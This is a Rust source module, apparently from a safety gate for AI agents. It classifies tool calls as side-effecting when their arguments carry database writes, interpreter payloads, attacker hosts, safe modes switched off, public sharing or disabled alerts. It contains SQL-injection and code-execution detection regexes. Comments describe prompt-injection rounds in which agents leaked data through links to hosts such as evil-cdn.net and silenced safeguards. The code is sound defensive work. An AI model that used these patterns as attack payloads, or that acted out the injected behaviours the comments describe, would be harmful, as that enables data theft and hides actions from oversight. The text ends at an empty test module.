//! What a call's arguments say it does, whatever its tool is called (issue 14): a statement
//! that changes a database, a place on the network that a lookup would reach and so carry
//! data to, or an action named outright (`{"action": "open"}`). The gate judges such a call as side-effecting, as the eval counts it.

use serde_json::Value;

use super::classify::Effect;

/// A statement that changes a database or reaches past it, wherever an argument carries one:
/// the writing statements of SQL in their dialects (T-SQL's `DELETE users`, `MERGE`,
/// `REPLACE INTO`, `UPSERT`), calls of procedures, copies to and from files and programs, a
/// `SELECT … INTO`, administration (`KILL`, `SHUTDOWN`, `SET GLOBAL`, `PRAGMA`), and the
/// writes of other query languages (Cypher's `DETACH DELETE`, Mongo's `.drop(`, Redis's
/// `FLUSHALL`, GraphQL's `mutation`). Read after [`sql_as_run`] undoes what hides a keyword.
static SQL_WRITE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?i)\b(?:drop\s+(?:table|database|schema|index|view|user|role|function|procedure|trigger|extension|column|constraint)\b|truncate\s+(?:table\s+)?[\w."\[\]]+\s*(?:;|$)|alter\s+(?:table|database|schema|index|view|user|role|system|session)\b|delete\s+(?:from|top)\b|delete\s+[\w."\[\]]+\s*(?:where\b|;|$)|insert\s+into\b|insert\s+[\w."\[\]]+\s*(?:\(|values\b|select\b)|update\s+\S+\s+set\b|merge\s+into\b|merge\s+[\w.]+\s+(?:as\s+\w+\s+)?using\b|replace\s+into\b|upsert\b|grant\s+[\w, ]+\s+(?:on|to)\b|revoke\s+[\w, ]+\s+(?:on|from)\b|create\s+(?:or\s+replace\s+)?(?:temp\w*\s+)?(?:table|view|user|role|database|schema|index|function|procedure|trigger|extension)\b|rename\s+(?:table|column|database|user)\b|call\s+[\w.]+\s*\(|exec(?:ute)?\s+[\w.]+\s*(?:@\w|'|\(|;|$)|xp_\w+|sp_\w+|copy\s+[\w.()]+\s+(?:to|from)\s+(?:program|stdout|stdin|'|")|into\s+(?:out|dump)file|load\s+data|load_extension|attach\s+database|vacuum\s+into|select\s[\s\S]*?\binto\s+[\w.#@]+\s+from\b|lo_(?:export|import)|unload\s*\(|export\s+data\b|backup\s+(?:database|log)\b|dblink_exec|kill\s+(?:query\s+|connection\s+)?\d+|shutdown\s*(?:;|$)|reset\s+master|purge\s+(?:binary|master)\s+logs|set\s+global\b|pragma\s+\w+\s*=|lock\s+tables?\b|reindex\b|detach\s+delete|flushall|flushdb|mutation\s*\w*\s*[({]|pg_terminate_backend|pg_cancel_backend|set_config\s*\(|setval\s*\(|pg_read_file|for\s+(?:no\s+key\s+)?(?:update|share)\b|notify\s+\w|comment\s+on\s+\w|security\s+label\b|refresh\s+materialized\b|waitfor\s+delay\b|(?:sleep|benchmark|nextval|load_file)\s*\(|pg_(?:sleep|notify|advisory\w*|reload_conf|rotate_logfile|switch_w\w+|promote|create_\w+|drop_\w+|logical_emit_message|file_\w+|read_binary_file|ls_dir)\b|dbms_\w+\.|utl_(?:http|file|smtp|tcp|inaddr)\b|sys_exec|delete\s+(?:where|data)\b|insert\s+data\b|drop\s+(?:all|graph|silent|default|named|measurement|series|retention|continuous)\b|clear\s+(?:all|graph|default|named)\b|_(?:delete|update)_by_query\b|import\s+foreign\s+schema|copy\s+into\b|restore\s+(?:database|table|log)\b|discard\s+(?:all|plans|sequences|temp)\b)|\.(?:drop|deleteone|deletemany|remove)\s*\(|\|\s*delete\b"#,
    )
    .ok()
});

/// Words of a key that say its value names what the call does (`{"action": "open"}`,
/// `{"method": "DELETE"}`).
const ACTION_KEYS: &[&str] = &[
    "action",
    "operation",
    "op",
    "command",
    "cmd",
    "verb",
    "method",
    "mode",
];

/// Words of a key whose value is text to look for or to write, where a verb is a word like
/// any other (`{"query": "delete"}` searches for it).
const TEXT_KEYS: &[&str] = &[
    "query",
    "q",
    "search",
    "text",
    "body",
    "message",
    "subject",
    "title",
    "content",
    "name",
    "keyword",
    "keywords",
    "term",
    "terms",
    "description",
    "note",
    "notes",
    "comment",
    "label",
    "tag",
    "tags",
    "summary",
    "prompt",
    "pattern",
    "contains",
    "filter",
];

/// Words of a key that say what happens to the thing, or after: its value, a verb, is an
/// action (`{"on_read": "delete"}`, `{"then": "trash"}`, `{"intent": "destroy"}`: a fifth
/// outsider round ran these through lookups). Keys that name a thing (`folder`, `state`)
/// hold nouns and states: `{"folder": "Archive"}`, `{"state": "closed"}`.
const WHAT_HAPPENS_KEYS: &[&str] = &[
    "then",
    "after",
    "afterwards",
    "next",
    "on",
    "intent",
    "intention",
    "purpose",
    "followup",
    "finally",
    "when",
    "do",
    "behavior",
    "behaviour",
    "policy",
    "disposition",
    "handling",
    "effect",
    "and",
    "cleanup",
    "postprocess",
    "post",
    "hook",
    "hooks",
    "run",
    "action",
    "actions",
    "task",
    "onread",
    "onopen",
    "afterread",
    "move",
    "to",
];

/// Whether a value under `key` names an action: under an [`ACTION_KEYS`] key, a writing verb,
/// a verb of an action kind, or an HTTP method that changes something; under a key that says
/// what happens ([`WHAT_HAPPENS_KEYS`]) and holds no text ([`TEXT_KEYS`]), a verb of an
/// action kind alone, in its plain form. One word, as such values are.
fn names_an_action(key: &str, value: &str) -> bool {
    let value = value.trim();
    if value.is_empty() || value.len() > 40 {
        return false;
    }
    let key_words = super::classify::words(key);
    if !key_words.iter().any(|w| ACTION_KEYS.contains(&w.as_str())) || value.contains(' ') {
        return key_words
            .iter()
            .any(|w| WHAT_HAPPENS_KEYS.contains(&w.as_str()))
            && !key_words.iter().any(|w| TEXT_KEYS.contains(&w.as_str()))
            && lone_action_verb(value).is_some();
    }
    let words = super::classify::words(value);
    matches!(
        value.to_ascii_lowercase().as_str(),
        "post" | "put" | "patch" | "delete"
    ) || words
        .iter()
        .any(|w| super::classify::WRITE_VERBS.contains(&w.as_str()))
        || super::kinds::names_an_action(&words)
}

/// The action kinds a one-word value names by itself (`delete`, `trash`, `publish`): a value
/// of a single word, which is a verb of an action kind.
fn lone_action_verb(value: &str) -> Option<Vec<super::authority::ActionKind>> {
    let words = super::classify::words(value);
    if words.is_empty() || words.len() > 4 {
        return None;
    }
    // Any form, under a key that says what happens: "delete", "deleted", "move to trash".
    let kinds: Vec<_> = super::authority::ActionKind::ALL
        .into_iter()
        .filter(|k| super::kinds::has_verb(&words, k.tool_verbs()))
        .collect();
    (!kinds.is_empty()).then_some(kinds)
}

/// Words of a key that keep a call from acting while they are on: a dry run, a preview, a
/// quote, a peek. Turned off (`{"dry_run": false}`, `{"quote_only": "n"}`, `{"peek":
/// "disabled"}`), the call does what its name only looks at (a fifth outsider round applied a
/// migration through `check_migration` and made a transfer through `get_transfer_quote`; a
/// sixth spelled the values and keys otherwise and nested them).
const SAFE_MODES: &[&str] = &[
    "dry",
    "dryrun",
    "preview",
    "simulate",
    "simulation",
    "only",
    "peek",
    "readonly",
    "sandbox",
    "noop",
    "whatif",
    "draft",
    "test",
    "validate",
    "plan",
    "check",
    "safe",
    "staging",
];

/// Words of a key that make a call act for real when they are on: `{"commit": true}`,
/// `{"apply": true}`, `{"lock_in": true}`, `{"skip_dry_run": true}`.
const GOES_LIVE: &[&str] = &[
    "commit",
    "apply",
    "confirm",
    "confirmed",
    "execute",
    "live",
    "lock",
    "force",
    "proceed",
    "finalize",
    "finalise",
    "submit",
    "production",
    "prod",
];

/// Whether a value turns what its key names off: `false`, `0`, `"no"`, `"n"`, `"off"`,
/// `"disabled"`.
fn turned_off(value: &Value) -> bool {
    match value {
        Value::Bool(b) => !b,
        Value::Number(n) => n.as_f64() == Some(0.0),
        Value::String(s) => matches!(
            s.trim().to_ascii_lowercase().as_str(),
            "false" | "no" | "n" | "off" | "0" | "disabled" | "disable" | "none" | "never"
        ),
        _ => false,
    }
}

/// Whether a value turns what its key names on: `true`, a number not 0, `"yes"`, `"y"`,
/// `"on"`, `"enabled"`, `"true"`.
fn turned_on(value: &Value) -> bool {
    match value {
        Value::Bool(b) => *b,
        Value::Number(n) => n.as_f64().is_some_and(|n| n != 0.0),
        Value::String(s) => matches!(
            s.trim().to_ascii_lowercase().as_str(),
            "true" | "yes" | "y" | "on" | "1" | "enabled" | "enable"
        ),
        _ => false,
    }
}

/// Every key and scalar value of `value`, at any depth (an array's items under its key).
fn each_pair<'v>(key: &'v str, value: &'v Value, visit: &mut impl FnMut(&'v str, &'v Value)) {
    match value {
        Value::Object(map) => map.iter().for_each(|(k, v)| each_pair(k, v, visit)),
        Value::Array(items) => items.iter().for_each(|v| each_pair(key, v, visit)),
        scalar => visit(key, scalar),
    }
}

/// Whether an argument, at any depth, turns off what keeps the call from acting
/// ([`SAFE_MODES`]), turns on what makes it act for real ([`GOES_LIVE`], or skipping a safe
/// mode), or sets a mode that is live (`{"mode": "live"}`).
pub(crate) fn leaves_safe_mode(args: &Value) -> bool {
    let mut found = false;
    each_pair("", args, &mut |key, value| {
        if found || key.is_empty() {
            return;
        }
        let words = super::classify::words(key);
        let has = |list: &[&str]| {
            words.iter().any(|w| list.contains(&w.as_str()))
                || list.contains(&words.concat().as_str())
        };
        let skips = has(&["skip", "no", "without", "disable", "bypass"])
            && !SAFE_MODES.contains(&words.concat().as_str());
        found = (turned_off(value) && has(SAFE_MODES) && !skips)
            || (turned_on(value) && has(SAFE_MODES) && skips)
            || (turned_on(value) && has(GOES_LIVE) && !has(SAFE_MODES))
            // (Not an environment's name: `{"env": "prod"}` picks where a lookup looks.)
            || (has(&["mode", "run"])
                && value.as_str().is_some_and(|v| {
                    matches!(
                        v.trim().to_ascii_lowercase().as_str(),
                        "live" | "real" | "apply" | "execute" | "commit"
                    )
                }));
    });
    found
}

/// Words of a key that keep what a call reads: turned off (`{"keep": false}`), the call
/// deletes it (a sixth outsider round read an e-mail that way).
const KEEPS: &[&str] = &["keep", "retain", "preserve", "save", "store", "persist"];

/// Whether an argument, at any depth, turns off keeping what the call reads ([`KEEPS`]).
pub(crate) fn drops_what_it_reads(args: &Value) -> bool {
    let mut found = false;
    each_pair("", args, &mut |key, value| {
        found |= turned_off(value)
            && super::classify::words(key)
                .iter()
                .any(|w| KEEPS.contains(&w.as_str()));
    });
    found
}

/// Words of a key that say who may see a thing, and values that open it to everyone.
const AUDIENCE_KEYS: &[&str] = &[
    "visibility",
    "visible",
    "access",
    "privacy",
    "audience",
    "sharing",
    "scope",
    "acl",
    "permission",
    "permissions",
    "exposure",
    "share",
    "shared",
];
const EVERYONE: &[&str] = &[
    "public",
    "everyone",
    "everybody",
    "anyone",
    "anybody",
    "all",
    "world",
    "internet",
    "open",
    "anonymous",
    "unlisted",
    "external",
    "guest",
    "guests",
    "unrestricted",
    "unprotected",
];

/// Whether an argument, at any depth, opens a thing to everyone: `{"visibility": "public"}`,
/// `{"private": false}`, `{"private": "false"}`, `{"public": true}`, `{"require_login":
/// false}`, `{"discoverable": true}` — a share, whatever the tool is called (a lookup given
/// one made a repository public for a third, a fifth and a sixth outsider round).
pub(crate) fn opens_to_everyone(args: &Value) -> bool {
    let mut found = false;
    each_pair("", args, &mut |key, value| {
        if found || key.is_empty() {
            return;
        }
        let words = super::classify::words(key);
        let has = |list: &[&str]| words.iter().any(|w| list.contains(&w.as_str()));
        found = (turned_on(value)
            && has(&[
                "public",
                "shared",
                "published",
                "world",
                "anonymous",
                "discoverable",
                "listed",
                "searchable",
                "indexable",
            ]))
            || (turned_off(value)
                && has(&[
                    "private",
                    "hidden",
                    "internal",
                    "restricted",
                    "secret",
                    "login",
                    "auth",
                    "authentication",
                    "protected",
                    "privacy",
                ]))
            || (has(AUDIENCE_KEYS)
                && value.as_str().is_some_and(|v| {
                    super::classify::words(v)
                        .iter()
                        .any(|w| EVERYONE.contains(&w.as_str()))
                }));
    });
    found
}

/// Whether a key's own words ask for an action with a value that turns it on
/// (`{"mark_all_read": true}`, `{"delete_after_reading": true}`, `{"share_with": "…"}`,
/// `{"set_state": "unlocked"}`): a lookup given one acts (a third outsider round ran 63 such
/// calls through read tools). A value that turns it off (`false`, `""`, `0`, `"no"`) does not.
fn key_acts(key: &str, value: &Value) -> bool {
    let on = match value {
        Value::Bool(b) => *b,
        Value::Null => false,
        Value::Number(n) => n.as_f64().is_some_and(|n| n != 0.0),
        Value::String(s) => !matches!(
            s.trim().to_ascii_lowercase().as_str(),
            "" | "false" | "no" | "none" | "off" | "0" | "null"
        ),
        Value::Array(a) => !a.is_empty(),
        Value::Object(o) => !o.is_empty(),
    };
    if !on || key.is_empty() {
        return false;
    }
    let words = super::classify::words(key);
    // A verb that is no noun, anywhere in the key (`delete_after_reading`, `auto_accept`,
    // `notify_owner`); a verb that is also a noun only where it leads a key of more words
    // and what follows says no data (`set_state`, `mark_paid`, `share_with`, not
    // `start_date`, `order_by` or `type`).
    let always = |w: &str| {
        (super::classify::WRITE_VERBS.contains(&w) && !super::classify::NOUNS_TOO.contains(&w))
            || matches!(
                w,
                "deliver"
                    | "notify"
                    | "modify"
                    | "unlock"
                    | "disarm"
                    // Taking a message off a queue for good.
                    | "ack"
                    | "acknowledge"
                    | "consume"
                    | "dequeue"
                    | "expunge"
                    | "purge"
                    | "destroy"
                    | "wipe"
                    | "erase"
            )
    };
    let leads = words.len() >= 2
        && matches!(
            words[0].as_str(),
            "set" | "mark" | "make" | "share" | "publish" | "forward" | "grant" | "reset"
        )
        && !words[1..].iter().any(|w| {
            matches!(
                w.as_str(),
                "id" | "ids" | "date" | "time" | "by" | "at" | "count" | "number" | "type" | "name"
            )
        });
    // A key that says where something goes, given an address: `sms_alerts_to`, `cc`.
    let sends_to = matches!(
        words.last().map(String::as_str),
        Some("to" | "cc" | "bcc" | "recipient" | "recipients")
    ) && value.as_str().is_some_and(|v| {
        super::atoms::atoms(v).iter().any(|(kind, _)| {
            matches!(
                kind,
                super::atoms::AtomKind::Email
                    | super::atoms::AtomKind::Number
                    | super::atoms::AtomKind::Handle
            )
        })
    });
    // A state the call is to bring about: `{"desired": "disarmed"}`.
    let desired = words
        .iter()
        .any(|w| matches!(w.as_str(), "desired" | "wanted"));
    leads || sends_to || desired || words.iter().any(|w| always(w))
}

/// Words of a key whose value answers someone: a reply to an invitation, a request for
/// money or access, a sign-in to approve (`{"response": "accept"}`, `{"rsvp": "yes"}`,
/// `{"decision": "grant"}`). A nineteenth outsider round answered them through tools named
/// for looking (`get_payment_request`, `view_login_attempt`).
const REPLY_KEYS: &[&str] = &[
    "response",
    "respond",
    "reply",
    "rsvp",
    "decision",
    "answer",
    "verdict",
    "resolution",
    "outcome",
];

/// Words of a key that, set on, give consent: `{"agree": true}` to a vendor's terms, `{"accept":
/// "yes"}`.
const CONSENT_KEYS: &[&str] = &[
    "agree",
    "accept",
    "consent",
    "approve",
    "authorize",
    "authorise",
    "allow",
    "grant",
    "optin",
];

/// Whether a call's arguments give consent: a key of consent ([`CONSENT_KEYS`]) set on
/// (`show_terms {"agree": true}`, `{"accept_terms": "yes"}`), whatever the tool is called.
fn gives_consent(args: &Value) -> bool {
    args.as_object().is_some_and(|map| {
        map.iter().any(|(k, v)| {
            let words = super::classify::words(k);
            let consent = words.iter().any(|w| CONSENT_KEYS.contains(&w.as_str()))
                || CONSENT_KEYS.contains(&words.concat().as_str());
            consent
                && (turned_on(v)
                    || v.as_str().is_some_and(|s| {
                        matches!(s.trim().to_ascii_lowercase().as_str(), "agree" | "accept")
                    }))
        })
    })
}

/// Whether a key's words say its value replies ([`REPLY_KEYS`]); `answer_id` and
/// `response_time` name a reply, not give one.
fn is_reply_key(words: &[String]) -> bool {
    words.iter().any(|w| REPLY_KEYS.contains(&w.as_str()))
        && !words.iter().any(|w| {
            matches!(
                w.as_str(),
                "id" | "ids" | "number" | "date" | "time" | "type" | "count" | "code" | "format"
            )
        })
}

/// Verbs that lead the name of a tool that looks at one record (`get_payment_request`,
/// `view_offer`, `review_pull_request`).
const ONE_RECORD_LOOKS: &[&str] = &[
    "get", "view", "show", "read", "fetch", "open", "display", "see", "load", "retrieve", "lookup",
    "check", "inspect", "review", "preview",
];

/// Words of a decision on a thing: what accepting, approving, consenting, attending, signing
/// or voting is called, in any form (`approved`, `attending`, `signed`).
const DECISION_WORDS: &[&str] = &[
    "accept",
    "approve",
    "agree",
    "grant",
    "authorize",
    "authorise",
    "allow",
    "confirm",
    "attend",
    "going",
    "yes",
    "sign",
    "signature",
    "vote",
    "consent",
    "optin",
    "subscribe",
    "join",
    "acknowledge",
    "pay",
    "purchase",
    "buy",
    "decline",
    "reject",
    "deny",
    "ok",
    "okay",
];

/// Words of a key that shape what a lookup returns (`include_body`, `fields`, `format`).
const SHAPING_KEYS: &[&str] = &[
    "include", "includes", "expand", "fields", "format", "verbose", "full", "details", "detail",
    "raw", "with", "show", "limit", "page", "lang", "language", "locale", "units", "version",
];

/// Whether a call of a tool that looks at one record, named by an identifier, also decides on
/// it: another argument (not text to search for) holds a decision (`{"request_id": "PR-77",
/// "decision": "approved"}`, `{"invite_id": "EV-4", "attending": true}`, `{"motion_id": "M-2",
/// "vote": "yes"}`), or a reply under a key that replies. A twentieth outsider round answered
/// requests through such lookups under keys no list of reply keys held; a lookup of many
/// records (`list_candidates {"job_id": "J-7", "stage": "rejected"}`) filters by a state, and
/// one of one record has nothing to filter.
fn decides_on_one_record(tool: &str, args: &Value) -> bool {
    let Some(map) = args.as_object() else {
        return false;
    };
    let looks_at_one = super::classify::words(tool)
        .first()
        .is_some_and(|v| ONE_RECORD_LOOKS.contains(&v.as_str()));
    if !looks_at_one
        || !map
            .iter()
            .any(|(k, v)| super::records::is_identifier_key(k) && !v.is_null())
    {
        return false;
    }
    let decides = |w: &str| {
        DECISION_WORDS
            .iter()
            .any(|d| super::kinds::is_form_of(w, d) || super::kinds::is_form_of(d, w))
    };
    map.iter().any(|(k, v)| {
        let key_words = super::classify::words(k);
        if super::records::is_identifier_key(k)
            || key_words
                .iter()
                .any(|w| TEXT_KEYS.contains(&w.as_str()) || SHAPING_KEYS.contains(&w.as_str()))
        {
            return false;
        }
        match v {
            Value::Bool(true) => {
                key_words.iter().any(|w| decides(w)) || {
                    let joined: String = key_words.concat();
                    decides(&joined)
                }
            }
            Value::String(s) => {
                let value_words = super::classify::words(s);
                let lower = s.trim().to_ascii_lowercase();
                let open = value_words.is_empty()
                    || matches!(
                        lower.as_str(),
                        "none" | "null" | "pending" | "open" | "unanswered" | "any" | "all"
                    );
                !open
                    && ((value_words.len() <= 3 && value_words.iter().any(|w| decides(w)))
                        || ((is_reply_key(&key_words) || key_words.iter().any(|w| decides(w)))
                            && !lower.ends_with("ed")))
            }
            // A reply given as a record: `{"reply": {"type": "accept"}}`.
            Value::Object(inner) => inner.values().any(|v| {
                v.as_str().is_some_and(|s| {
                    let w = super::classify::words(s);
                    w.len() <= 3 && w.iter().any(|w| decides(w))
                })
            }),
            _ => false,
        }
    })
}

/// Code a value hands to an interpreter that can reach the system: Python's `__import__`,
/// `os.system`, `subprocess`, a template's `__globals__`, an `eval(`/`exec(`, or an option that
/// writes a file (`--output=`). A calculator or a template renderer given one runs it.
static CODE_THAT_ACTS: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
            r#"(?i)__import__|__globals__|__builtins__|__subclasses__|\bos\.(?:system|popen|remove|unlink|rmdir)\b|\bsubprocess\b|\b(?:eval|exec|popen|system)\s*\(|(?:^|\s)--(?:output|out-file|output-file|log-file)(?:=|\s)|\brequire\s*\(\s*['"]child_process"#,
        )
        .ok()
});

/// Whether a call's arguments themselves change something, as a lookup's would not: a key
/// that asks for an action, a value that names one, a database write, code for an
/// interpreter. (Reaching the network is not a change of anything: a lookup with a link only
/// carries data out, which provenance judges by its values.)
pub fn changes_by_arguments(tool: &str, args: &Value) -> bool {
    acts("", args, false) || acts_besides(tool, args)
}

/// What else a call's arguments say it does, beside what [`acts`] reads of each key and value:
/// consent given, a decision on the one record a lookup names, a safe mode left, what it
/// reads dropped, a thing opened to all.
fn acts_besides(tool: &str, args: &Value) -> bool {
    gives_consent(args)
        || decides_on_one_record(tool, args)
        || leaves_safe_mode(args)
        || opens_to_everyone(args)
        || drops_what_it_reads(args)
}

/// Top-level domains that host most of the web's names and are no file's extension: under
/// a key that names a path, `evil-cdn.net` is a host only by its ending.
const HOSTING_TLDS: &[&str] = &[
    "com", "net", "org", "io", "co", "info", "biz", "xyz", "top", "online", "site", "cloud", "ru",
    "cn", "uk", "de", "fr", "nl", "us", "me", "tk", "ml", "ga", "cf", "gq", "su",
];

/// Whether a value under a key that names a path is a host all the same (an outsider's
/// attack sent `check_target {"target": "9f8e7d6c5b4a.evil-cdn.net"}` past the host rule,
/// which leaves path keys alone so that `setup.sh` stays a file): an IPv4 address, a name
/// with a port, or a dotted name whose ending no file has — a common hosting domain, another
/// script's, or after two dots at least one that is no file extension.
fn host_under_path_key(value: &str) -> bool {
    let head = value.split(['/', '?', '#']).next().unwrap_or_default();
    let (name, port) = match head.rsplit_once(':') {
        Some((name, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => {
            (name, true)
        }
        _ => (head, false),
    };
    let labels: Vec<&str> = name.split('.').collect();
    if labels.len() < 2 || labels.iter().any(|l| l.is_empty()) {
        return false;
    }
    let label_ok = |l: &&str| {
        l.chars()
            .all(|c| c.is_alphanumeric() || c == '-' || c == '_')
    };
    if !labels.iter().all(label_ok) {
        return false;
    }
    let ipv4 = labels.len() == 4
        && labels
            .iter()
            .all(|l| l.len() <= 3 && l.bytes().all(|b| b.is_ascii_digit()));
    let last = labels[labels.len() - 1].to_lowercase();
    let ending = last.chars().all(char::is_alphabetic) && (2..=12).contains(&last.chars().count());
    ipv4 || (ending
        && super::atoms::is_tld(&last)
        && (port
            || HOSTING_TLDS.contains(&last.as_str())
            || !last.is_ascii()
            || (labels.len() >= 3 && !super::atoms::is_file_extension(&last))))
}

/// `text` as a database reads it: comments (`/* … */`, `-- …`) as `comment`, the quotes
/// around names (`` ` ``) as spaces, fullwidth letters as ASCII — each hides a keyword from a plain search
/// (`DR/**/OP`, `` update`users`set ``, `ＤＲＯＰ`).
fn sql_as_run<'t>(text: &'t str, comment: &str) -> std::borrow::Cow<'t, str> {
    let hides = |c: char| matches!(c, '/' | '`' | '-') || ('\u{ff01}'..='\u{ff5e}').contains(&c);
    if !text.contains(hides) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("/*") {
            rest = after.find("*/").map_or("", |end| &after[end + 2..]);
            out.push_str(comment);
        } else if let Some(after) = rest.strip_prefix("--") {
            rest = after.find('\n').map_or("", |end| &after[end..]);
            out.push_str(comment);
        } else {
            out.push(match c {
                '`' => ' ',
                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
                c => c,
            });
            rest = &rest[c.len_utf8()..];
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Words of a key that say its value is a place on the network.
const NETWORK_KEYS: &[&str] = &[
    "domain", "host", "hostname", "url", "uri", "link", "href", "endpoint", "website", "site",
];

/// Whether the arguments under `key` act: a key or value that names an action, a database
/// write, code for an interpreter — and, when `reach` is on, a place on the network.
fn acts(key: &str, v: &Value, reach: bool) -> bool {
    match v {
        Value::String(s) => {
            let t = s.trim_start();
            let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
            let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
                .iter()
                .any(|scheme| lower.starts_with(scheme));
            let network_key = || {
                !key.is_empty()
                    && super::classify::words(key)
                        .iter()
                        .any(|w| NETWORK_KEYS.contains(&w.as_str()))
            };
            let hosted = || {
                !t.contains(char::is_whitespace)
                    && (t.starts_with("//")
                    || t.starts_with("\\\\")
                    || lower.starts_with("data:")
                    || (t.starts_with('[') && t.contains(':'))
                    // An IPv4 address written as one hexadecimal number, which resolvers
                    // take (`0xcb007107`).
                    || (lower.starts_with("0x")
                        && t.len() == 10
                        && t[2..].bytes().all(|b| b.is_ascii_hexdigit()))
                    || (t.contains('.') && !t.starts_with(['/', '.', '~']) && network_key())
                    // A value that is a host or a link whatever its key (`203.0.113.7`,
                    // `cb.evil-cdn.net`, `ftp.evil.net/x`); not under a key that names a
                    // path, where `setup.sh` is a file.
                    || (!super::paths::path_like(key)
                        && super::atoms::atoms(t).iter().any(|(kind, atom)| {
                            *kind == super::atoms::AtomKind::Link
                                && t.starts_with(atom.as_str())
                        }))
                    || (super::paths::path_like(key) && host_under_path_key(t)))
            };
            (reach && (linked || hosted()))
                || names_an_action(key, t)
                || key_acts(key, v)
                || CODE_THAT_ACTS.as_ref().is_none_or(|re| re.is_match(s))
                || SQL_WRITE.as_ref().is_none_or(|re| {
                    // A comment splits words for most databases and joins them for
                    // some: read both ways.
                    re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
                })
        }
        Value::Array(items) => key_acts(key, v) || items.iter().any(|i| acts(key, i, reach)),
        Value::Object(map) => map.iter().any(|(k, v)| acts(k, v, reach)),
        other => key_acts(key, other),
    }
}

/// A call's effect: its tool's, made side-effecting by what its arguments say the call does
/// whatever the tool is called (an outsider's attack ran each through a "lookup"): a statement
/// that changes a database (`DROP TABLE …` to `query_database`), or a place on the network —
/// a link with a scheme, or a host under a key that names one — which the lookup reaches and
/// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
/// `lookup_domain {"domain": "<code>.evil.net"}`).
pub fn call_effect(tool: &str, effect: Effect, args: &Value) -> Effect {
    if effect == Effect::SideEffecting || acts("", args, true) || acts_besides(tool, args) {
        return Effect::SideEffecting;
    }
    Effect::ReadOnly
}

/// The kinds of action a call's arguments name outright, whatever its tool's name says:
/// `http_request {"method": "DELETE"}` deletes (a fourth outsider round sent one to the host
/// the user asked only to ping), and turning a safeguard off changes access
/// ([`weakens_a_safeguard`]).
pub fn argument_kinds(tool: &str, args: &Value) -> Vec<super::authority::ActionKind> {
    use super::authority::ActionKind;
    let mut kinds = Vec::new();
    // At any depth: `{"hooks": [{"run": "delete"}]}`.
    each_pair("", args, &mut |key, value| {
        // A key that is an action, turned on: `{"expunge": true}` (not a safe mode:
        // `{"dry_run": true}`).
        let words = super::classify::words(key);
        if turned_on(value) && !words.iter().any(|w| SAFE_MODES.contains(&w.as_str())) {
            kinds.extend(
                ActionKind::ALL
                    .into_iter()
                    .filter(|k| super::kinds::has_verb(&words, k.tool_verbs())),
            );
        }
        let Some(value) = value.as_str() else {
            return;
        };
        if !words.iter().any(|w| ACTION_KEYS.contains(&w.as_str())) {
            if names_an_action(key, value) {
                kinds.extend(lone_action_verb(value).unwrap_or_default());
            }
            return;
        }
        let words = super::classify::words(value);
        kinds.extend(
            ActionKind::ALL
                .into_iter()
                .filter(|k| super::kinds::has_verb(&words, k.tool_verbs())),
        );
    });
    if weakens_a_safeguard(tool, args) {
        kinds.push(ActionKind::Access);
    }
    if opens_to_everyone(args) {
        kinds.push(ActionKind::Share);
    }
    if drops_what_it_reads(args) {
        kinds.push(ActionKind::Delete);
    }
    if leaves_safe_mode(args) {
        // Out of its safe mode a lookup does what its name names (`get_transfer_quote`
        // transfers), and a check runs for real (`check_migration {"dry_run": false}`
        // migrates): it needs a user who asked for that, not for a check.
        let words = super::classify::words(tool);
        let named: Vec<ActionKind> = ActionKind::ALL
            .into_iter()
            .filter(|k| super::kinds::has_verb(&words, k.tool_verbs()))
            .collect();
        if named.is_empty() {
            kinds.push(ActionKind::Run);
        }
        kinds.extend(named);
    }
    kinds.sort();
    kinds.dedup();
    kinds
}

/// Words that name a safeguard: what tells the user something happened, keeps a record of
/// it, or stands in an intruder's way.
const SAFEGUARDS: &[&str] = &[
    "alert",
    "alerts",
    "notification",
    "notifications",
    "notify",
    "log",
    "logs",
    "logging",
    "audit",
    "security",
    "protection",
    "protected",
    "2fa",
    "mfa",
    "backup",
    "backups",
    "retention",
    "monitoring",
    "monitor",
    "review",
    "reviews",
    "warning",
    "warnings",
    "encryption",
    "firewall",
    "alarm",
    "alarms",
    "verification",
    "history",
];

/// Verbs that put a safeguard to sleep whatever value they are given.
const SILENCING: &[&str] = &[
    "snooze",
    "mute",
    "pause",
    "silence",
    "suppress",
    "disable",
    "stop",
    "deactivate",
    "turn",
];

/// Whether a call turns a safeguard off: a key or the tool naming one, given `false`, `0`,
/// `"off"`, `"disabled"`, `"none"` or `"never"` (`update_notification_settings
/// {"security_alerts": false}`, `set_log_retention {"days": 0}`), or a tool that silences
/// one (`snooze_alerts {"hours": 72}`). That is an access change — the step an injection takes
/// to hide the one before it (a third outsider round) — and the user's words must ask for it.
pub fn weakens_a_safeguard(tool: &str, args: &Value) -> bool {
    let tool_words = super::classify::words(tool);
    let names_one = |words: &[String]| words.iter().any(|w| SAFEGUARDS.contains(&w.as_str()));
    if names_one(&tool_words) && tool_words.iter().any(|w| SILENCING.contains(&w.as_str())) {
        return true;
    }
    fn off(v: &Value) -> bool {
        match v {
            Value::Bool(b) => !b,
            Value::Number(n) => n.as_f64() == Some(0.0),
            Value::String(s) => matches!(
                s.trim().to_ascii_lowercase().as_str(),
                "off" | "false" | "disabled" | "disable" | "none" | "never" | "0" | "no"
            ),
            _ => false,
        }
    }
    fn walk(key: &str, v: &Value, tool_names_one: bool, found: &mut bool) {
        match v {
            Value::Object(map) => {
                for (k, v) in map {
                    walk(k, v, tool_names_one, found);
                }
            }
            Value::Array(items) => items
                .iter()
                .for_each(|i| walk(key, i, tool_names_one, found)),
            v => {
                let key_words = super::classify::words(key);
                let names = key_words.iter().any(|w| SAFEGUARDS.contains(&w.as_str()));
                *found |= off(v) && (names || tool_names_one);
            }
        }
    }
    let mut found = false;
    walk("", args, names_one(&tool_words), &mut found);
    found
}

#[cfg(test)]
mod tests {
    use serde_json::json;

